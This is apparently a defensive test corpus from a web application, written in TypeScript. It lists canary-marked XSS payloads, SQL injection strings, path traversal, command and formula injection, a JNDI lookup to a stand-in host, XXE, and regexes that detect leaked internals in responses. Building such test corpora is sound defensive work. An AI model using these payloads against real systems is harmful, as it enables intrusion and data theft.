/**
 * What attackers type, written for this house. Every entry that would run in a browser calls `canary` or carries the mark
 * `senx`, so that a page can be looked through for it; every entry that would run in the database takes the next value of
 * the sequence `canary`, which counts even when its transaction is rolled back. Nothing here is copied from elsewhere: the
 * ways in are common knowledge (OWASP testing guide, chapters on input validation), the texts are our own.
 */

/** Text that becomes markup, an attribute, a script or an address when it is not escaped for the place it lands in. */
export const markup: readonly string[] = [
  '<senx>',
  '<script>canary(1)</script>',
  '</script><script>canary(2)</script>',
  '<SCRIPT\t>canary(3)</SCRIPT\n>',
  '<scr<script>ipt>canary(4)</scr</script>ipt>',
  '<script src=data:text/javascript,canary(5)></script>',
  '<script src=//senx.example/a.js></script>',
  '<img src=x onerror=canary(6)>',
  '<img src=x onerror="canary(7)" senx>',
  '<img/src=x/onerror=canary(8)>',
  '<svg onload=canary(9)>',
  '<svg/onload=canary(10)//',
  '<svg><script>canary(11)</script></svg>',
  '<svg><animate onbegin=canary(12) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary(13)"><text y=20>senx</text></a></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:canary(14)>senx</maction></math>',
  '<body onload=canary(15)>',
  '<details open ontoggle=canary(16)>senx',
  '<video><source onerror=canary(17)></video>',
  '<audio src=x onerror=canary(18)>',
  '<input autofocus onfocus=canary(19)>',
  '<select autofocus onfocus=canary(20)></select>',
  '<textarea autofocus onfocus=canary(21)></textarea>',
  '</textarea><script>canary(22)</script>',
  '</title><script>canary(23)</script>',
  '</style><script>canary(24)</script>',
  '</option></select><img src=x onerror=canary(25)>',
  '<iframe src="javascript:canary(26)"></iframe>',
  '<iframe srcdoc="<script>parent.canary(27)</script>"></iframe>',
  '<object data="javascript:canary(28)"></object>',
  '<embed src="data:text/html,<script>canary(29)</script>">',
  '<base href="https://senx.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:canary(30)">',
  '<link rel=stylesheet href=https://senx.example/a.css>',
  '<form action=https://senx.example/><button>senx</button></form>',
  '<a href="javascript:canary(31)">senx</a>',
  '<a href="jav&#x09;ascript:canary(32)">senx</a>',
  '<template><script>canary(33)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=canary(34)>">',
  '<!--><img src=x onerror=canary(35)>-->',
  '<![CDATA[<script>canary(36)</script>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">canary(37)</script>',
  '" onmouseover="canary(38)" senx="',
  "' onmouseover='canary(39)' senx='",
  '" autofocus onfocus=canary(40) senx="',
  '"><img src=x onerror=canary(41)>',
  "'><img src=x onerror=canary(42)>",
  '` onmouseover=canary(43) `',
  'senx onmouseover=canary(44) ',
  'javascript:canary(45)',
  'JaVaScRiPt:canary(46)',
  '\tjavascript:canary(47)',
  'java\nscript:canary(48)',
  'data:text/html,<script>canary(49)</script>',
  'vbscript:canary(50)',
  '//senx.example/',
  '/\\senx.example/',
  "';canary(51);//",
  '";canary(52);//',
  "\\';canary(53);//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template of another language would run
  '${canary(54)}',
  '{{constructor.constructor("canary(55)")()}}',
  '#{canary(56)}',
  '<%= canary(57) %>',
  '\u2028canary(58)\u2029',
  '＜script＞canary(59)＜/script＞',
  '<ſcript>canary(60)</ſcript>',
  '%3Cscript%3Ecanary(61)%3C/script%3E',
  '&lt;script&gt;canary(62)&lt;/script&gt;',
  '&#60;script&#62;canary(63)&#60;/script&#62;',
  '\\u003cscript\\u003ecanary(64)\\u003c/script\\u003e',
  '+ADw-script+AD4-canary(65)+ADw-/script+AD4-',
  '\u0000<script>canary(66)</script>',
  '<a\u0000href=javascript:canary(67)>senx</a>',
  '[senx](javascript:canary(68))',
  '![senx](x"onerror="canary(69))',
  '<style>@import "https://senx.example/a.css";</style>',
  '<div style="background:url(javascript:canary(70))">',
  '<img src=x:canary(71) onerror=eval(src)>',
  '<isindex type=image src=x onerror=canary(72)>',
]

/** Text that becomes part of a statement when it is put into SQL. The sequence `canary` counts what ran. */
export const statements: readonly string[] = [
  "'",
  "''",
  '"',
  '\\',
  "\\'",
  ';',
  '--',
  '/*',
  '$$',
  "' or '1'='1",
  "' or '1'='2",
  "' or 1=1 --",
  "') or ('1'='1",
  "')) or (('1'='1",
  '" or "1"="1',
  '1 or 1=1',
  "1' and '1'='1' --",
  "' and nextval('canary') > 0 --",
  "' or nextval('canary') > 0 or '",
  "'||nextval('canary')||'",
  "') or nextval('canary') > 0 --",
  "; select nextval('canary') --",
  "'; select nextval('canary'); --",
  "1; select nextval('canary')",
  "1 and nextval('canary') > 0",
  "(select nextval('canary'))",
  "' union select nextval('canary')::text --",
  "' union all select null, nextval('canary')::text, null --",
  "1 union select nextval('canary')",
  "') union select nextval('canary')::text --",
  "$$||nextval('canary')||$$",
  "$1); select nextval('canary'); --",
  "x'; insert into sen.setting values ('canary'); --",
  "id; select nextval('canary')",
  "id, (select nextval('canary'))",
  "id desc, nextval('canary')",
  "id limit 1 offset nextval('canary')",
  "(case when nextval('canary') > 0 then id else code end)",
  "name::int + nextval('canary')",
  "'; select pg_sleep(3); --",
  "' or pg_sleep(3) is null --",
  '1; select pg_sleep(3)',
  '(select pg_sleep(3))',
  "' and (select count(*) from generate_series(1, 9)) > 0 --",
  "'; copy (select nextval('canary')) to program 'true'; --",
  "' and 1=cast((select version()) as int) --",
  "' and extractvalue(1, concat(0x7e, version())) --",
  "%' or nextval('canary') > 0 or '%",
  "%'; select nextval('canary'); --",
  '%25%27',
  '\u02bc or 1=1 --',
  '＇ or 1=1 --',
  "\u0000' or 1=1 --",
  "{nextval('canary')}",
  '{"a":"b"}\'::jsonb || nextval(\'canary\')',
  '1e309',
  'null',
  "E'\\047 or 1=1 --'",
  "U&'\\0027 or 1=1'",
]

/** Text that other readers stumble over: controls, directions, sizes, paths, formulas, headers, formats. */
export const oddities: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  'a\r\nset-cookie: senx=1',
  'a%0d%0aset-cookie:%20senx=1',
  'a\nb\rc\td\u000be',
  '\u001b[31mđỏ\u001b[0m',
  '\u001b]0;senx\u0007',
  '\u202egpj.exe',
  '\u2066\u2067\u2068\u2069',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  'Nguyễn Thị Huệ'.normalize('NFD'),
  'ﷺ'.repeat(500),
  'Z\u0351\u036b\u0343\u036a\u0302'.repeat(200),
  '👩‍👩‍👧‍👦🇻🇳',
  'I\u0130ıſK',
  'a'.repeat(10_000),
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  '%c0%ae%c0%ae%c0%af',
  '/etc/passwd\u0000.pdf',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '%s%s%s%n',
  '%',
  '%zz',
  '%u0041',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger of another language would look up
  '${jndi:ldap://senx.example/a}',
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '*)(uid=*))(|(uid=*',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'true',
  'false',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1e400',
  '9'.repeat(400),
  '9007199254740993',
  '-1',
  '0',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '0001-01-01',
  '9999-12-31',
  '2026-02-30',
  '2026-13-01T99:99:99Z',
  '+275760-09-13',
  'infinity',
  'epoch',
  'now',
]

/** Values of the wrong kind, for places in JSON. */
export const values: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[]],
  [null],
  [{}],
  { length: 5 },
  { toString: 'a' },
  // biome-ignore lint/suspicious/noThenProperty: what awaits by mistake would call it
  { then: 'a' },
  { constructor: { prototype: { polluted: 1 } } },
  { $ne: null },
  { $gt: '' },
  ['a', 'b'],
  Array.from({ length: 300 }, () => 'a'),
]

/** What must never be in an answer: the inside of the program, the database, the machine, or a secret. */
export const LEAKS: readonly RegExp[] = [
  /\bat [\w.<>]+ \(?(?:file:\/\/|node:|\/)[^\s)]+:\d+:\d+\)?/,
  /node_modules/,
  /node:internal/,
  /\b(?:TypeError|ReferenceError|RangeError|SyntaxError|AssertionError): /,
  /\bsen_app\b|\bpg_catalog\b|\bpg_stat/,
  /syntax error at or near|duplicate key value|violates (?:foreign key|check|not-null|unique|row-level)|relation "[^"]*" does not exist|column "[^"]*" does not exist|invalid input syntax|operator does not exist|canceling statement/i,
  /\bselect\b[^<"]{1,200}\bfrom\b\s+(?:sen|one_stop|pg_)\w*\.?\w*/i,
  /\$argon2id?\$/,
  /-----BEGIN [A-Z ]*PRIVATE KEY-----/,
  /root:[x*]:0:0:/,
  /"dependencies":\s*\{/,
  /\bFST_ERR_|\bERR_[A-Z_]{4,}/,
]

/** Elements that could only have come from the corpus, or that no page of ours writes with such content. */
const FOREIGN = /^(?:senx|iframe|object|embed|base|math|isindex|animate|maction)\b/i

const LEADING = String.raw`\s(?:href|src|action|formaction|data|xlink:href|srcdoc)\s*=\s*`
const AWAY = String.raw`\s*(?:javascript|vbscript|data:text/html|(?:https?:)?//senx\.example)`
const QUOTED_AWAY = new RegExp(`${LEADING}["']${AWAY}`, 'i')
const BARE_AWAY = new RegExp(`${LEADING}${AWAY}`, 'i')

/** Tags found harmless: thousands of pages are made of the same few. */
const harmless = new Set<string>()
const HARMLESS_MAX = 50_000

/** Whether this tag, from its bracket on, is markup of the attacker's. */
function isForeign(tag: string): boolean {
  // A browser drops tabs and line ends from an address, also those written as numbers.
  const inside = tag.slice(1).replace(/&#(?:x0*[9ad]|0*9|0*10|0*13);?/gi, '')
  const bare = inside.replace(/"[^"]*"|'[^']*'/g, '""')
  const breaksOut =
    FOREIGN.test(inside) || /\son[a-z]+\s*=/i.test(bare) || /\bsenx\s*=|canary/i.test(bare.replace(/^[a-z]+/i, ''))
  // Within quotes as they were sent, and without quotes at all: an escaped quote begins no value.
  return (
    breaksOut ||
    QUOTED_AWAY.test(inside) ||
    BARE_AWAY.test(bare) ||
    /^meta\b[^>]*http-equiv\s*=\s*["']?refresh/i.test(inside)
  )
}

/**
 * Markup of the corpus found raw in a page: escaping failed. Tags are looked at one by one, with their quoted values taken
 * out, so that what stands escaped inside a value (where it belongs) is not taken for markup.
 */
export function findMarkup(page: string): string | undefined {
  for (const [tag] of page.matchAll(/<[A-Za-z!/?][^<>]*>?/g)) {
    if (harmless.has(tag)) continue
    if (isForeign(tag)) return tag.slice(0, 120)
    if (harmless.size >= HARMLESS_MAX) harmless.clear()
    // a copy: a piece of the page would keep the whole page in memory
    harmless.add(Buffer.from(tag, 'utf16le').toString('utf16le'))
  }
  return /<script[^<>]*>[^<]*canary|<style[^<>]*>[^<]*senx|\sstyle\s*=\s*["'][^"'<>]*(?:canary|senx)/i
    .exec(page)?.[0]
    .slice(0, 120)
}
